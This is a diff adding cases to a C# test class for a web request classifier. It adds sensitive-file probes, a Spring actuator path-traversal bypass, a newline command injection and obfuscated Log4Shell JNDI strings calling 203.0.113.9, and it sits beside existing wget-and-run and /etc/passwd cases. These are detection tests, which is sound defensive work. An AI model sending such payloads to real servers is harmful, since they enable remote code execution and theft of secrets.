@@ -31,6 +31,8 @@ public sealed class RequestClassifierTests
     [InlineData("/credentials.json")]
     [InlineData("/.env/")]
     [InlineData("/wp-config.php.bak/")]
+    [InlineData("/.env;jsessionid=1")]
+    [InlineData("/api/..;/actuator/env")]
     [InlineData("/invoker/")]
     [InlineData("/web.config")]
     [InlineData("/etc/passwd")]
@@ -72,6 +74,7 @@ public sealed class RequestClassifierTests
     [InlineData("/user/register")]
     [InlineData("/account/registration.php")]
     [InlineData("/wp-login.php/")]
+    [InlineData("/login;jsessionid=ABC")]
     public void Classify_LoginPath_FlagsLoginEndpoint(string path)
     {
         var traits = Classify(path);
@@ -153,6 +156,9 @@ public sealed class RequestClassifierTests
     [InlineData("/ping?host=x|ls%20-la", RequestTraits.CommandInjection)]
     [InlineData("/ping?host=x;wget%20http://203.0.113.9/a.sh", RequestTraits.CommandInjection)]
     [InlineData("/ping?host=x&&id", RequestTraits.CommandInjection)]
+    [InlineData("/ping?host=127.0.0.1%0aid", RequestTraits.CommandInjection)]
+    [InlineData("/x?a=${${lower:j}ndi:ldap://203.0.113.9/a}", RequestTraits.CommandInjection)]
+    [InlineData("/x?a=${${::-j}${::-n}di:ldap://203.0.113.9/a}", RequestTraits.CommandInjection)]
     [InlineData("/ping?host=$(whoami)", RequestTraits.CommandInjection)]
     [InlineData("/ping?host=`id`", RequestTraits.CommandInjection)]
     [InlineData("/scripts/root.exe?/c+dir", RequestTraits.CommandInjection)]
